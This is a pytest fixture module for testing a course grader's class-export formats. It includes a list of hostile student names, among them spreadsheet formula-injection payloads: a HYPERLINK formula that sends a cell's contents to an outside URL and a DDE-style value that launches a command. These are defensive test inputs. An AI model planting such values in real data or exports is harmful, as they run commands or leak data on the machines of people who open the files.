"""A small class with difficult names, as `kata grade-class` leaves it, and a way to export it."""

from __future__ import annotations

import os
from collections.abc import Callable, Iterable
from pathlib import Path

import pytest

from grader.classroom.members import CLASS_LIST, Learner, as_lines
from grader.formats.export import ExportTerms
from grader.formats.graded import Graded
from grader.formats.known import FORMATS
from grader.record import CheckResult, CourseStamp, Diagnosis, ExerciseResult, Outcome, Problem, Record, Status

STAMP = CourseStamp(title="Attention Kata", version="0.1.0")
WHEN = 1_790_000_000
"""Seconds since 1970 at which every class of these tests was graded."""

TITLES = {"softmax": "Softmax by hand", "causal_mask": "Causal mask", "kv_cache": "A cache, kept"}
UNITS = [("1. Soft lookup", ["softmax"]), ("3. Masks; dropout", ["causal_mask", "kv_cache"])]

HOSTILE_NAMES = {
    "comma": "Lovelace, Ada",
    "quote": 'Ana "Ann" O\'Neill',
    "newline": "two\nlines\r\nhere",
    "formula": '=HYPERLINK("http://example.org/?"&A1,"me")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1,2)",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "full-width": "\uff1d1+1",
    "leading-blank": " =1+1",
    "emoji": "Zoë 🦊 林美玲",
    "right-to-left": "\u202eadA",
    "points-possible": "Points Possible",
    "control": "bell\x07",
}


def check(name: str, points: float, worth: float, outcome: Outcome | None = None, message: str = "") -> CheckResult:
    outcome = outcome or ("passed" if points else "failed")
    return CheckResult(
        name=name,
        title=f"It does what {name} asks.",
        outcome=outcome,
        points=points,
        max_points=worth,
        visible=name == "test_example",
        message=message if outcome != "passed" else "",
    )


def exercise(
    id: str, points: float = 4.0, status: Status | None = None, message: str = "The rows differ."
) -> ExerciseResult:
    """An exercise of 4 points with two checks, one of them for 1 point; without checks where nothing was checked."""
    status = status or ("passed" if points == 4 else "failed")
    checks = [check("test_example", min(points, 1.0), 1.0, message=message)]
    checks.append(check("test_rows", max(points - 1, 0.0), 3.0, message=message))
    return ExerciseResult(
        id=id,
        status=status,
        points=points if status in ("passed", "failed") else 0.0,
        max_points=4.0,
        checks=tuple(checks) if status in ("passed", "failed") else (),
        diagnosis=(Diagnosis(mistake="whole-sum", message="You divided by one sum."),) if status == "failed" else (),
        seconds=0.25,
    )


def record(name: str, *exercises: ExerciseResult, problems: Iterable[Problem] = ()) -> Record:
    whole = exercises or (exercise("softmax"), exercise("causal_mask", 1.0), exercise("kv_cache", 0, "missing"))
    return Record.of(submission=name, isolation="full", seed=7, course=STAMP, exercises=whole, problems=tuple(problems))


BROKEN_CHECK = check("test_rows", 0, 3.0, "error", "ZeroDivisionError in the hidden check")
BROKEN = exercise("causal_mask").model_copy(
    update={"status": "error", "points": 1.0, "checks": (check("test_example", 1.0, 1.0), BROKEN_CHECK)}
)
"""An exercise at which the grader itself failed, after one check that passed."""


def not_graded(name: str) -> Record:
    return record(name, exercise("softmax"), BROKEN, exercise("kv_cache", 0, "missing"))


Export = Callable[..., str]


@pytest.fixture
def class_of(tmp_path: Path) -> Callable[..., Path]:
    """Writes a class into a folder as `kata grade-class` does."""

    def write(*records: Record, learners: Iterable[Learner] = ()) -> Path:
        out = tmp_path / "out"
        out.mkdir()
        results = out / "results.jsonl"
        results.write_bytes(b"".join(f"{each.to_json()}\n".encode() for each in records))
        if listed := list(learners):
            (out / CLASS_LIST).write_bytes(b"".join(as_lines(listed)))
        os.utime(results, (WHEN, WHEN))
        return out

    return write


@pytest.fixture
def said() -> list[str]:
    """What an export told whoever exported."""
    return []


@pytest.fixture
def exported(said: list[str]) -> Callable[..., dict[str, str]]:
    """The files of a format by their names."""

    def export(out: Path, format: str, **terms: object) -> dict[str, str]:
        chosen = ExportTerms(**{"titles": TITLES, "units": UNITS, "say": said.append, **terms})  # type: ignore[arg-type]
        return {file.name: "".join(file.parts) for file in FORMATS[format].files(Graded(out), chosen)}

    return export
